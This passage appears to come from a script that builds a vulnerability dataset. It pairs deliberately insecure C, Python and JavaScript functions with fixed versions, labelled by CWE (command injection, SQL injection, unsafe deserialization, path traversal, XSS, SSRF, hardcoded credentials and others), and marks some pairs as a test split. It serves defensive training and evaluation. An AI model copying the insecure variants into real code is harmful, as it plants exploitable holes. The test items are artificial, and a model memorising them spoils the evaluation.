    void audit(const char *user, const char *action)
    {
        char line[256];
        snprintf(line, sizeof(line), "user=%s action=%s", user, action);
        syslog(LOG_INFO, "%s", line);
    }
""")

pair("c", "CWE-78", r"""
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/wait.h>

    int ping_host(const char *host)
    {
        char cmd[300];
        size_t len = strlen(host);
        if (len == 0 || len > 253)
            return -1;
        if (strchr(host, ' ') != NULL || strchr(host, '\t') != NULL)
            return -1;
        snprintf(cmd, sizeof(cmd), "ping -c 1 -W 2 %s", host);
        int status = system(cmd);
        if (status == -1)
            return -1;
        return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    }
""", r"""
    #include <string.h>
    #include <sys/wait.h>
    #include <unistd.h>

    #define HOST_CHARS "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-:"

    int ping_host(const char *host)
    {
        if (host[0] == '\0' || host[0] == '-' || strspn(host, HOST_CHARS) != strlen(host))
            return -1;
        pid_t pid = fork();
        if (pid < 0)
            return -1;
        if (pid == 0) {
            execlp("ping", "ping", "-c", "1", "-W", "2", "--", host, (char *)NULL);
            _exit(127);
        }
        int status;
        if (waitpid(pid, &status, 0) < 0)
            return -1;
        return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    }
""")

pair("c", "CWE-415", r"""
    #include <stdlib.h>
    #include <string.h>

    int store_record(struct kvstore *db, const char *key, const char *value)
    {
        char *copy = strdup(value);
        if (copy == NULL)
            return -1;
        if (kv_put(db, key, copy) != 0) {
            free(copy);
            goto fail;
        }
        return 0;
    fail:
        free(copy);
        log_error("could not store %s", key);
        return -1;
    }
""", r"""
    #include <stdlib.h>
    #include <string.h>

    int store_record(struct kvstore *db, const char *key, const char *value)
    {
        char *copy = strdup(value);
        if (copy == NULL)
            return -1;
        if (kv_put(db, key, copy) != 0)
            goto fail;
        return 0;
    fail:
        free(copy);
        log_error("could not store %s", key);
        return -1;
    }
""")

pair("c", "CWE-193", r"""
    #include <ctype.h>

    #define LABEL_MAX 16

    void make_label(char label[LABEL_MAX], const char *src)
    {
        size_t i;
        for (i = 0; i <= LABEL_MAX && src[i] != '\0'; i++)
            label[i] = (char)toupper((unsigned char)src[i]);
        label[i] = '\0';
    }
""", r"""
    #include <ctype.h>

    #define LABEL_MAX 16

    void make_label(char label[LABEL_MAX], const char *src)
    {
        size_t i;
        for (i = 0; i < LABEL_MAX - 1 && src[i] != '\0'; i++)
            label[i] = (char)toupper((unsigned char)src[i]);
        label[i] = '\0';
    }
""")

pair("c", "CWE-787", r"""
    #include <stdlib.h>

    #define BUCKETS 64

    static unsigned long latency_hist[BUCKETS];

    void on_metric(const char *field)
    {
        int bucket = atoi(field);
        if (bucket < BUCKETS)
            latency_hist[bucket]++;
    }
""", r"""
    #include <stdlib.h>

    #define BUCKETS 64

    static unsigned long latency_hist[BUCKETS];

    void on_metric(const char *field)
    {
        char *end;
        long bucket = strtol(field, &end, 10);
        if (end != field && *end == '\0' && bucket >= 0 && bucket < BUCKETS)
            latency_hist[bucket]++;
    }
""")

pair("c", "CWE-242", r"""
    #include <stdio.h>
    #include <string.h>

    int confirm_install(void)
    {
        char answer[16];
        printf("Continue installation? [yes/no] ");
        gets(answer);
        return strcmp(answer, "yes") == 0;
    }
""", r"""
    #include <stdio.h>
    #include <string.h>

    int confirm_install(void)
    {
        char answer[16];
        printf("Continue installation? [yes/no] ");
        if (fgets(answer, sizeof(answer), stdin) == NULL)
            return 0;
        answer[strcspn(answer, "\n")] = '\0';
        return strcmp(answer, "yes") == 0;
    }
""")

pair("c", "CWE-190", r"""
    #include <stdint.h>
    #include <string.h>

    #define HEADER_LEN 12

    int build_frame(uint8_t *frame, size_t frame_cap, const uint8_t *payload, uint16_t payload_len)
    {
        uint16_t total = HEADER_LEN + payload_len;
        if (total > frame_cap)
            return -1;
        write_header(frame, payload_len);
        memcpy(frame + HEADER_LEN, payload, payload_len);
        return total;
    }
""", r"""
    #include <stdint.h>
    #include <string.h>

    #define HEADER_LEN 12

    long build_frame(uint8_t *frame, size_t frame_cap, const uint8_t *payload, uint16_t payload_len)
    {
        size_t total = (size_t)HEADER_LEN + payload_len;
        if (total > frame_cap)
            return -1;
        write_header(frame, payload_len);
        memcpy(frame + HEADER_LEN, payload, payload_len);
        return (long)total;
    }
""")

pair("c", "CWE-369", r"""
    #include <stdio.h>

    struct probe_stats {
        unsigned long total_ms;
        unsigned int samples;
    };

    void report_average(FILE *out, const struct probe_stats *st, const char *name)
    {
        unsigned long avg = st->total_ms / st->samples;
        fprintf(out, "%s: %lu ms average over %u probes\n", name, avg, st->samples);
    }
""", r"""
    #include <stdio.h>

    struct probe_stats {
        unsigned long total_ms;
        unsigned int samples;
    };

    void report_average(FILE *out, const struct probe_stats *st, const char *name)
    {
        if (st->samples == 0) {
            fprintf(out, "%s: no probes yet\n", name);
            return;
        }
        unsigned long avg = st->total_ms / st->samples;
        fprintf(out, "%s: %lu ms average over %u probes\n", name, avg, st->samples);
    }
""")

pair("c", "CWE-269", r"""
    #include <sys/types.h>
    #include <unistd.h>

    int become_worker(uid_t uid, gid_t gid)
    {
        if (uid == 0 || gid == 0)
            return -1;
        if (getuid() != 0)
            return 0;
        setuid(uid);
        setgid(gid);
        log_info("worker running as uid=%d gid=%d", (int)uid, (int)gid);
        return 0;
    }
""", r"""
    #include <grp.h>
    #include <sys/types.h>
    #include <unistd.h>

    int become_worker(uid_t uid, gid_t gid)
    {
        if (setgroups(0, NULL) != 0)
            return -1;
        if (setgid(gid) != 0)
            return -1;
        if (setuid(uid) != 0)
            return -1;
        if (setuid(0) != -1)
            return -1;
        return 0;
    }
""")

pair("c", "CWE-377", r"""
    #include <stdio.h>
    #include <sys/stat.h>
    #include <unistd.h>

    FILE *open_spool(char name[L_tmpnam])
    {
        if (tmpnam(name) == NULL)
            return NULL;
        FILE *fp = fopen(name, "w+");
        if (fp == NULL)
            return NULL;
        if (chmod(name, S_IRUSR | S_IWUSR) != 0) {
            fclose(fp);
            unlink(name);
            return NULL;
        }
        return fp;
    }
""", r"""
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <unistd.h>

    FILE *open_spool(char name[32])
    {
        strcpy(name, "/tmp/spool-XXXXXX");
        int fd = mkstemp(name);
        if (fd < 0)
            return NULL;
        FILE *fp = fdopen(fd, "w+");
        if (fp == NULL)
            close(fd);
        return fp;
    }
""")

pair("c", "CWE-125", r"""
    static const char *const level_names[] = { "debug", "info", "warning", "error" };

    const char *level_name(unsigned int level)
    {
        return level_names[level];
    }
""", r"""
    static const char *const level_names[] = { "debug", "info", "warning", "error" };

    const char *level_name(unsigned int level)
    {
        if (level >= sizeof(level_names) / sizeof(level_names[0]))
            return "unknown";
        return level_names[level];
    }
""")

pair("c", "CWE-22", r"""
    #include <limits.h>
    #include <stdio.h>
    #include <string.h>

    FILE *open_asset(const char *name)
    {
        char path[PATH_MAX];
        if (name[0] == '\0' || name[0] == '/')
            return NULL;
        if (strlen(name) > 128)
            return NULL;
        snprintf(path, sizeof(path), "/usr/share/gallery/assets/%s", name);
        return fopen(path, "rb");
    }
""", r"""
    #include <limits.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>

    #define ASSET_ROOT "/usr/share/gallery/assets/"

    FILE *open_asset(const char *name)
    {
        char path[PATH_MAX], real[PATH_MAX];
        if (snprintf(path, sizeof(path), ASSET_ROOT "%s", name) >= (int)sizeof(path))
            return NULL;
        if (realpath(path, real) == NULL)
            return NULL;
        if (strncmp(real, ASSET_ROOT, strlen(ASSET_ROOT)) != 0)
            return NULL;
        return fopen(real, "rb");
    }
""", split="test")

pair("c", "CWE-195", r"""
    #include <stdint.h>
    #include <unistd.h>

    ssize_t read_exact(int fd, void *buf, size_t n);

    ssize_t read_chunk(int fd, char *dst, size_t dst_size)
    {
        int32_t len;
        if (read(fd, &len, sizeof(len)) != sizeof(len))
            return -1;
        if (len > (int32_t)dst_size)
            return -1;
        return read_exact(fd, dst, len);
    }
""", r"""
    #include <stdint.h>
    #include <unistd.h>

    ssize_t read_exact(int fd, void *buf, size_t n);

    ssize_t read_chunk(int fd, char *dst, size_t dst_size)
    {
        int32_t len;
        if (read(fd, &len, sizeof(len)) != sizeof(len))
            return -1;
        if (len < 0 || (size_t)len > dst_size)
            return -1;
        return read_exact(fd, dst, (size_t)len);
    }
""", split="test")

pair("c", "CWE-170", r"""
    #include <string.h>

    struct peer {
        char host[64];
        unsigned short port;
    };

    void remember_peer(struct peer *pr, const char *host, unsigned short port)
    {
        if (host == NULL || host[0] == '\0' || port == 0)
            return;
        strncpy(pr->host, host, sizeof(pr->host));
        pr->port = port;
        log_info("peer %s:%u registered", pr->host, pr->port);
    }
""", r"""
    #include <string.h>

    struct peer {
        char host[64];
        unsigned short port;
    };

    void remember_peer(struct peer *pr, const char *host, unsigned short port)
    {
        strncpy(pr->host, host, sizeof(pr->host) - 1);
        pr->host[sizeof(pr->host) - 1] = '\0';
        pr->port = port;
        log_info("peer %s:%u registered", pr->host, pr->port);
    }
""", split="test")

pair("c", "CWE-787", r"""
    #include <stdio.h>

    void log_login(const char *user, const char *addr)
    {
        char msg[80];
        sprintf(msg, "login user=%s from=%s", user, addr);
        write_audit(msg);
    }
""", r"""
    #include <stdio.h>

    void log_login(const char *user, const char *addr)
    {
        char msg[80];
        snprintf(msg, sizeof(msg), "login user=%.32s from=%.40s", user, addr);
        write_audit(msg);
    }
""", split="test")

pair("c", "CWE-476", r"""
    struct account {
        unsigned long quota_bytes;
        unsigned long used_bytes;
    };

    struct account *find_account(struct directory *dir, const char *name);

    unsigned long remaining_quota(struct directory *dir, const char *name)
    {
        struct account *acct = find_account(dir, name);
        return acct->quota_bytes - acct->used_bytes;
    }
""", r"""
    struct account {
        unsigned long quota_bytes;
        unsigned long used_bytes;
    };

    struct account *find_account(struct directory *dir, const char *name);

    unsigned long remaining_quota(struct directory *dir, const char *name)
    {
        struct account *acct = find_account(dir, name);
        if (acct == NULL || acct->used_bytes > acct->quota_bytes)
            return 0;
        return acct->quota_bytes - acct->used_bytes;
    }
""", split="test")

# -- Python -----------------------------------------------------------------

pair("python", "CWE-89", r"""
    import sqlite3


    def shipments_for(db_path, tracking_code):
        tracking_code = tracking_code.strip().upper()
        if not tracking_code or len(tracking_code) > 40:
            return []
        conn = sqlite3.connect(db_path)
        try:
            cur = conn.execute(
                f"SELECT id, status, eta FROM shipments WHERE tracking_code = '{tracking_code}'"
            )
            return cur.fetchall()
        finally:
            conn.close()
""", r"""
    import sqlite3


    def shipments_for(db_path, tracking_code):
        conn = sqlite3.connect(db_path)
        try:
            cur = conn.execute(
                "SELECT id, status, eta FROM shipments WHERE tracking_code = ?",
                (tracking_code,),
            )
            return cur.fetchall()
        finally:
            conn.close()
""")

pair("python", "CWE-89", r"""
    def list_products(cursor, category, sort):
        query = (
            "SELECT sku, title, price FROM products WHERE category = %s "
            "ORDER BY " + sort + " LIMIT 50"
        )
        cursor.execute(query, (category,))
        return cursor.fetchall()
""", r"""
    SORT_COLUMNS = {"price": "price", "title": "title", "newest": "created_at DESC"}


    def list_products(cursor, category, sort):
        order = SORT_COLUMNS.get(sort, "title")
        query = (
            "SELECT sku, title, price FROM products WHERE category = %s "
            "ORDER BY " + order + " LIMIT 50"
        )
        cursor.execute(query, (category,))
        return cursor.fetchall()
""")

pair("python", "CWE-89", r"""
    def search_patients(cursor, surname):
        surname = surname.strip()
        if len(surname) < 2:
            return []
        cursor.execute(
            "SELECT mrn, surname, given_name FROM patients WHERE surname LIKE '%%%s%%'" % surname
        )
        return [dict(zip(("mrn", "surname", "given"), row)) for row in cursor.fetchall()]
""", r"""
    def search_patients(cursor, surname):
        cursor.execute(
            "SELECT mrn, surname, given_name FROM patients WHERE surname LIKE %s",
            ("%" + surname + "%",),
        )
        return [dict(zip(("mrn", "surname", "given"), row)) for row in cursor.fetchall()]
""", split="test")

pair("python", "CWE-78", r"""
    import os
    import subprocess


    def mirror_repository(repo_url, dest):
        if not repo_url:
            raise ValueError("a repository URL is required")
        dest = os.path.abspath(dest)
        if os.path.exists(dest):
            raise FileExistsError(dest)
        result = subprocess.run(
            f"git clone --depth 1 {repo_url} {dest}",
            shell=True,
            capture_output=True,
            text=True,
        )
        if result.returncode != 0:
            raise RuntimeError(result.stderr)
        return dest
""", r"""
    import subprocess


    def mirror_repository(repo_url, dest):
        if not repo_url.startswith("https://"):
            raise ValueError("only https repositories can be mirrored")
        result = subprocess.run(
            ["git", "clone", "--depth", "1", "--", repo_url, dest],
            capture_output=True,
            text=True,
        )
        if result.returncode != 0:
            raise RuntimeError(result.stderr)
        return dest
""")

pair("python", "CWE-78", r"""
    import os


    def archive_project(name):
        if not name or "/" in name or name.startswith("."):
            raise ValueError(f"invalid project name: {name!r}")
        os.makedirs("/backups", exist_ok=True)
        target = f"/backups/{name}.tar.gz"
        status = os.system(f"tar czf {target} /srv/projects/{name}")
        return status == 0
""", r"""
    import re
    import subprocess

    NAME = re.compile(r"[A-Za-z0-9_-]{1,64}")


    def archive_project(name):
        if not NAME.fullmatch(name):
            raise ValueError(f"invalid project name: {name!r}")
        target = f"/backups/{name}.tar.gz"
        result = subprocess.run(["tar", "czf", target, f"/srv/projects/{name}"])
        return result.returncode == 0
""", split="test")

pair("python", "CWE-22", r"""
    import os

    from flask import Flask, abort, send_file

    app = Flask(__name__)
    REPORT_DIR = "/srv/reports"


    @app.route("/reports/<path:name>")
    def download_report(name):
        if name.startswith("/") or not name.endswith((".pdf", ".csv")):
            abort(404)
        path = os.path.join(REPORT_DIR, name)
        if not os.path.isfile(path):
            abort(404)
        return send_file(path, as_attachment=True)
""", r"""
    import os

    from flask import Flask, abort, send_file

    app = Flask(__name__)
    REPORT_DIR = os.path.realpath("/srv/reports")


    @app.route("/reports/<path:name>")
    def download_report(name):
        target = os.path.realpath(os.path.join(REPORT_DIR, name))
        if os.path.commonpath([REPORT_DIR, target]) != REPORT_DIR or not os.path.isfile(target):
            abort(404)
        return send_file(target)
""")

pair("python", "CWE-22", r"""
    import zipfile
    from pathlib import Path


    def unpack_theme(archive_path, themes_dir):
        dest = Path(themes_dir)
        with zipfile.ZipFile(archive_path) as zf:
            for member in zf.infolist():
                out = dest / member.filename
                out.parent.mkdir(parents=True, exist_ok=True)
                if not member.is_dir():
                    out.write_bytes(zf.read(member))
""", r"""
    import zipfile
    from pathlib import Path


    def unpack_theme(archive_path, themes_dir):
        dest = Path(themes_dir).resolve()
        with zipfile.ZipFile(archive_path) as zf:
            for member in zf.infolist():
                out = (dest / member.filename).resolve()
                if not out.is_relative_to(dest):
                    raise ValueError(f"archive entry escapes target: {member.filename}")
                out.parent.mkdir(parents=True, exist_ok=True)
                if not member.is_dir():
                    out.write_bytes(zf.read(member))
""")

pair("python", "CWE-502", r"""
    import base64
    import pickle

    from flask import request


    def load_preferences():
        raw = request.cookies.get("prefs")
        if not raw or len(raw) > 4096:
            return {"theme": "light", "page_size": 20}
        prefs = pickle.loads(base64.b64decode(raw))
        prefs.setdefault("theme", "light")
        prefs.setdefault("page_size", 20)
        return prefs
""", r"""
    import json

    from flask import request

    DEFAULTS = {"theme": "light", "page_size": 20}


    def load_preferences():
        raw = request.cookies.get("prefs")
        try:
            prefs = json.loads(raw) if raw else {}
        except ValueError:
            prefs = {}
        return {**DEFAULTS, **prefs} if isinstance(prefs, dict) else dict(DEFAULTS)
""")

pair("python", "CWE-502", r"""
    import yaml


    def read_pipeline(uploaded_file):
        spec = yaml.load(uploaded_file.read(), Loader=yaml.Loader)
        if not isinstance(spec, dict):
            raise ValueError("pipeline spec must be a mapping")
        steps = spec.get("steps", [])
        return [(step["name"], step.get("image", "python:3.12")) for step in steps]
""", r"""
    import yaml


    def read_pipeline(uploaded_file):
        spec = yaml.safe_load(uploaded_file.read()) or {}
        if not isinstance(spec, dict):
            raise ValueError("pipeline spec must be a mapping")
        steps = spec.get("steps", [])
        return [(step["name"], step.get("image", "python:3.12")) for step in steps]
""", split="test")

pair("python", "CWE-798", r"""
    import smtplib
    from email.message import EmailMessage

    SMTP_USER = "alerts@example.org"
    SMTP_PASSWORD = "Wint3r-Relay-2024!"


    def send_alert(to_addr, subject, body):
        msg = EmailMessage()
        msg["From"], msg["To"], msg["Subject"] = SMTP_USER, to_addr, subject
        msg.set_content(body)
        with smtplib.SMTP("smtp.example.org", 587) as smtp:
            smtp.starttls()
            smtp.login(SMTP_USER, SMTP_PASSWORD)
            smtp.send_message(msg)
""", r"""
    import os
    import smtplib
    from email.message import EmailMessage


    def send_alert(to_addr, subject, body):
        user = os.environ["ALERT_SMTP_USER"]
        password = os.environ["ALERT_SMTP_PASSWORD"]
        msg = EmailMessage()
        msg["From"], msg["To"], msg["Subject"] = user, to_addr, subject
        msg.set_content(body)
        with smtplib.SMTP(os.environ.get("ALERT_SMTP_HOST", "smtp.example.org"), 587) as smtp:
            smtp.starttls()
            smtp.login(user, password)
            smtp.send_message(msg)
""")

pair("python", "CWE-916", r"""
    import hashlib


    MIN_LENGTH = 12


    def hash_password(password):
        if len(password) < MIN_LENGTH:
            raise ValueError(f"password must have at least {MIN_LENGTH} characters")
        if password.lower() == password or password.upper() == password:
            raise ValueError("password must mix upper and lower case letters")
        return hashlib.md5(password.encode("utf-8")).hexdigest()


    def check_password(password, stored):
        return hash_password(password) == stored
""", r"""
    import hashlib
    import hmac
    import os


    def hash_password(password):
        salt = os.urandom(16)
        digest = hashlib.scrypt(password.encode("utf-8"), salt=salt, n=2**14, r=8, p=1)
        return salt.hex() + "$" + digest.hex()


    def check_password(password, stored):
        salt_hex, digest_hex = stored.split("$", 1)
        digest = hashlib.scrypt(
            password.encode("utf-8"), salt=bytes.fromhex(salt_hex), n=2**14, r=8, p=1
        )
        return hmac.compare_digest(digest.hex(), digest_hex)
""")

pair("python", "CWE-918", r"""
    import requests
    from flask import Flask, abort, jsonify, request

    app = Flask(__name__)


    @app.post("/api/link-preview")
    def link_preview():
        url = request.json["url"]
        if not url.startswith(("http://", "https://")):
            abort(400)
        resp = requests.get(url, timeout=5, headers={"User-Agent": "PreviewBot/1.0"})
        if resp.status_code != 200 or "text/html" not in resp.headers.get("Content-Type", ""):
            abort(422)
        title = resp.text.split("<title>", 1)[-1].split("</title>", 1)[0]
        return jsonify(url=url, title=title[:200])
""", r"""
    from urllib.parse import urlsplit

    import requests
    from flask import Flask, abort, jsonify, request

    app = Flask(__name__)
    PREVIEW_HOSTS = {"github.com", "docs.python.org", "en.wikipedia.org"}


    @app.post("/api/link-preview")
    def link_preview():
        url = request.json["url"]
        parts = urlsplit(url)
        if parts.scheme != "https" or parts.hostname not in PREVIEW_HOSTS:
            abort(400)
        resp = requests.get(url, timeout=5, allow_redirects=False)
        title = resp.text.split("<title>", 1)[-1].split("</title>", 1)[0]
        return jsonify(url=url, title=title[:200])
""")

pair("python", "CWE-94", r"""
    def apply_discount_rule(rule, order):
        # rule example: "total * 0.9 if items > 3 else total"
        context = {"total": order.total, "items": len(order.items)}
        result = eval(rule, {}, context)
        if result < 0:
            raise ValueError(f"discount rule produced a negative total: {result}")
        return result
""", r"""
    RULES = {
        "bulk10": lambda total, items: total * 0.9 if items > 3 else total,
        "flat5": lambda total, items: max(total - 5, 0),
        "none": lambda total, items: total,
    }


    def apply_discount_rule(rule, order):
        try:
            fn = RULES[rule]
        except KeyError:
            raise ValueError(f"unknown discount rule: {rule!r}") from None
        return fn(order.total, len(order.items))
""")

pair("python", "CWE-611", r"""
    from lxml import etree


    def parse_invoice(xml_bytes):
        parser = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
        root = etree.fromstring(xml_bytes, parser)
        return {
            "number": root.findtext("number"),
            "customer": root.findtext("customer/name"),
            "amount": float(root.findtext("amount")),
        }
""", r"""
    from lxml import etree


    def parse_invoice(xml_bytes):
        parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True)
        root = etree.fromstring(xml_bytes, parser)
        return {
            "number": root.findtext("number"),
            "customer": root.findtext("customer/name"),
            "amount": float(root.findtext("amount")),
        }
""")

pair("python", "CWE-338", r"""
    import random
    import string
    import time


    def new_reset_token(user_id, store):
        alphabet = string.ascii_letters + string.digits
        token = "".join(random.choice(alphabet) for _ in range(24))
        store.save(user_id, token, expires=time.time() + 3600)
        return token
""", r"""
    import hashlib
    import secrets
    import time


    def new_reset_token(user_id, store):
        token = secrets.token_urlsafe(32)
        digest = hashlib.sha256(token.encode()).hexdigest()
        store.save(user_id, digest, expires=time.time() + 3600)
        return token
""")

pair("python", "CWE-208", r"""
    import hashlib
    import hmac


    def webhook_is_authentic(secret, body, signature_header):
        expected = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
        return signature_header == "sha256=" + expected
""", r"""
    import hashlib
    import hmac


    def webhook_is_authentic(secret, body, signature_header):
        expected = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
        return hmac.compare_digest(signature_header, "sha256=" + expected)
""")

pair("python", "CWE-862", r"""
    from flask import Blueprint, abort
    from flask_login import current_user, login_required

    bp = Blueprint("invoices", __name__)


    @bp.delete("/invoices/<int:invoice_id>")
    @login_required
    def delete_invoice(invoice_id):
        invoice = Invoice.query.get(invoice_id)
        if invoice is None:
            abort(404)
        db.session.delete(invoice)
        db.session.commit()
        return "", 204
""", r"""
    from flask import Blueprint, abort
    from flask_login import current_user, login_required

    bp = Blueprint("invoices", __name__)


    @bp.delete("/invoices/<int:invoice_id>")
    @login_required
    def delete_invoice(invoice_id):
        invoice = Invoice.query.get(invoice_id)
        if invoice is None or invoice.owner_id != current_user.id:
            abort(404)
        db.session.delete(invoice)
        db.session.commit()
        return "", 204
""", split="test")

pair("python", "CWE-347", r"""
    import jwt


    def user_from_token(token, signing_key):
        claims = jwt.decode(token, options={"verify_signature": False})
        return {"id": claims["sub"], "roles": claims.get("roles", [])}
""", r"""
    import jwt


    def user_from_token(token, signing_key):
        claims = jwt.decode(
            token, signing_key, algorithms=["HS256"], options={"require": ["exp", "sub"]}
        )
        return {"id": claims["sub"], "roles": claims.get("roles", [])}
""")

pair("python", "CWE-601", r"""
    import logging

    from flask import redirect, request, session

    log = logging.getLogger(__name__)


    def finish_login(user):
        session["user_id"] = user.id
        target = request.args.get("next") or "/dashboard"
        if target.strip().lower().startswith(("javascript:", "data:")):
            target = "/dashboard"
        log.info("user %s logged in, continuing to %s", user.id, target)
        return redirect(target)
""", r"""
    from urllib.parse import urlsplit

    from flask import redirect, request, session


    def finish_login(user):
        session["user_id"] = user.id
        target = request.args.get("next") or "/dashboard"
        parts = urlsplit(target)
        if parts.scheme or parts.netloc or not target.startswith("/") or target.startswith("//"):
            target = "/dashboard"
        return redirect(target)
""")

pair("python", "CWE-400", r"""
    import json

    from flask import abort, request


    def import_contacts():
        payload = request.get_data()
        contacts = json.loads(payload)
        if not isinstance(contacts, list):
            abort(400)
        for entry in contacts:
            if not isinstance(entry, dict) or "email" not in entry:
                abort(400)
        for entry in contacts:
            save_contact(entry["name"], entry["email"])
        return {"imported": len(contacts)}
""", r"""
    import json

    from flask import abort, request

    MAX_BODY = 1_000_000
    MAX_CONTACTS = 5_000


    def import_contacts():
        if request.content_length is None or request.content_length > MAX_BODY:
            abort(413)
        contacts = json.loads(request.get_data())
        if not isinstance(contacts, list) or len(contacts) > MAX_CONTACTS:
            abort(400)
        for entry in contacts:
            save_contact(entry["name"], entry["email"])
        return {"imported": len(contacts)}
""")

pair("python", "CWE-532", r"""
    import logging

    log = logging.getLogger(__name__)


    def authenticate(username, password, directory):
        log.info("login attempt user=%s password=%s", username, password)
        user = directory.lookup(username)
        if user is None or not user.verify(password):
            log.warning("login failed for %s", username)
            return None
        return user
""", r"""
    import logging

    log = logging.getLogger(__name__)


    def authenticate(username, password, directory):
        log.info("login attempt user=%s", username)
        user = directory.lookup(username)
        if user is None or not user.verify(password):
            log.warning("login failed for %s", username)
            return None
        return user
""")

pair("python", "CWE-79", r"""
    from flask import Flask, redirect, request

    app = Flask(__name__)


    @app.get("/search")
    def search():
        term = request.args.get("q", "").strip()[:100]
        if not term:
            return redirect("/")
        hits = catalogue.search(term)
        if not hits:
            return f"<p>No results for {term}</p>", 404
        items = "".join(f"<li>{h.title}</li>" for h in hits)
        return f"<h2>Results for {term}</h2><ul>{items}</ul>"
""", r"""
    from flask import Flask, request
    from markupsafe import escape

    app = Flask(__name__)


    @app.get("/search")
    def search():
        term = request.args.get("q", "")
        hits = catalogue.search(term)
        items = "".join(f"<li>{escape(h.title)}</li>" for h in hits)
        return f"<h2>Results for {escape(term)}</h2><ul>{items}</ul>"
""")

pair("python", "CWE-20", r"""
    def add_to_cart(cart, product, quantity):
        quantity = int(quantity)
        cart.lines.append({"sku": product.sku, "qty": quantity, "unit": product.price})
        cart.total += product.price * quantity
        return cart.total
""", r"""
    MAX_QTY = 100


    def add_to_cart(cart, product, quantity):
        quantity = int(quantity)
        if not 1 <= quantity <= MAX_QTY:
            raise ValueError(f"quantity must be between 1 and {MAX_QTY}, got {quantity}")
        cart.lines.append({"sku": product.sku, "qty": quantity, "unit": product.price})
        cart.total += product.price * quantity
        return cart.total
""")

pair("python", "CWE-434", r"""
    import os

    from flask import abort, request

    UPLOAD_DIR = "/var/www/app/static/avatars"


    def upload_avatar(user):
        f = request.files.get("avatar")
        if f is None or not f.filename:
            abort(400)
        if request.content_length and request.content_length > 2_000_000:
            abort(413)
        path = os.path.join(UPLOAD_DIR, f.filename)
        f.save(path)
        user.avatar_url = "/static/avatars/" + f.filename
        return user.avatar_url
""", r"""
    import os
    import uuid

    from flask import abort, request

    UPLOAD_DIR = "/var/lib/app/avatars"
    ALLOWED = {".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg"}


    def upload_avatar(user):
        f = request.files["avatar"]
        ext = os.path.splitext(f.filename or "")[1].lower()
        if ext not in ALLOWED or f.mimetype != ALLOWED[ext]:
            abort(400)
        name = uuid.uuid4().hex + ext
        f.save(os.path.join(UPLOAD_DIR, name))
        user.avatar_url = "/avatars/" + name
        return user.avatar_url
""", split="test")

pair("python", "CWE-352", r"""
    from django.contrib.auth.decorators import login_required
    from django.http import JsonResponse
    from django.views.decorators.csrf import csrf_exempt
    from django.views.decorators.http import require_POST


    @csrf_exempt
    @login_required
    @require_POST
    def change_payout_account(request):
        request.user.profile.iban = request.POST["iban"]
        request.user.profile.save()
        return JsonResponse({"ok": True})
""", r"""
    from django.contrib.auth.decorators import login_required
    from django.http import JsonResponse
    from django.views.decorators.http import require_POST


    @login_required
    @require_POST
    def change_payout_account(request):
        request.user.profile.iban = request.POST["iban"]
        request.user.profile.save()
        return JsonResponse({"ok": True})
""")

pair("python", "CWE-295", r"""
    import requests


    def fetch_rates(api_base, token):
        resp = requests.get(
            f"{api_base}/v2/rates",
            headers={"Authorization": f"Bearer {token}"},
            timeout=10,
            verify=False,
        )
        resp.raise_for_status()
        return resp.json()["rates"]
""", r"""
    import requests


    def fetch_rates(api_base, token):
        resp = requests.get(
            f"{api_base}/v2/rates",
            headers={"Authorization": f"Bearer {token}"},
            timeout=10,
            verify="/etc/ssl/certs/partner-ca.pem",
        )
        resp.raise_for_status()
        return resp.json()["rates"]
""")

pair("python", "CWE-732", r"""
    import os


    def write_service_key(path, key_pem):
        if not key_pem.startswith("-----BEGIN"):
            raise ValueError("expected a PEM-encoded key")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(key_pem)
        os.chmod(path, 0o777)
        return path
""", r"""
    import os


    def write_service_key(path, key_pem):
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        with os.fdopen(fd, "w") as fh:
            fh.write(key_pem)
        os.chmod(path, 0o600)
        return path
""")

# -- JavaScript -------------------------------------------------------------

pair("javascript", "CWE-79", r"""
    function renderComments(listEl, comments) {
      listEl.innerHTML = '';
      for (const c of comments) {
        const li = document.createElement('li');
        li.innerHTML = `<strong>${c.author}</strong>: ${c.body}`;
        listEl.appendChild(li);
      }
    }
""", r"""
    function renderComments(listEl, comments) {
      listEl.replaceChildren();
      for (const c of comments) {
        const li = document.createElement('li');
        const who = document.createElement('strong');
        who.textContent = c.author;
        li.append(who, ': ', c.body);
        listEl.appendChild(li);
      }
    }
""")

pair("javascript", "CWE-79", r"""
    const express = require('express');
    const app = express();

    app.get('/welcome', (req, res) => {
      const name = req.query.name || 'guest';
      if (name.length > 50) return res.status(400).send('name too long');
      res.set('Cache-Control', 'no-store');
      res.send(`<html><body><h1>Hello, ${name}!</h1></body></html>`);
    });
""", r"""
    const express = require('express');
    const app = express();

    const HTML_ENTITIES = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
    const escapeHtml = (s) => String(s).replace(/[&<>"']/g, (ch) => HTML_ENTITIES[ch]);

    app.get('/welcome', (req, res) => {
      const name = req.query.name || 'guest';
      res.send(`<html><body><h1>Hello, ${escapeHtml(name)}!</h1></body></html>`);
    });
""", split="test")

pair("javascript", "CWE-89", r"""
    async function ordersByStatus(pool, customerId, status) {
      const sql =
        'SELECT id, total, created_at FROM orders WHERE customer_id = ' + customerId +
        " AND status = '" + status + "' ORDER BY created_at DESC";
      const [rows] = await pool.query(sql);
      return rows;
    }
""", r"""
    async function ordersByStatus(pool, customerId, status) {
      const sql =
        'SELECT id, total, created_at FROM orders WHERE customer_id = ? ' +
        'AND status = ? ORDER BY created_at DESC';
      const [rows] = await pool.execute(sql, [customerId, status]);
      return rows;
    }
""")

pair("javascript", "CWE-78", r"""
    const { exec } = require('child_process');

    function makeThumbnail(srcPath, width, done) {
      const w = Number.parseInt(width, 10);
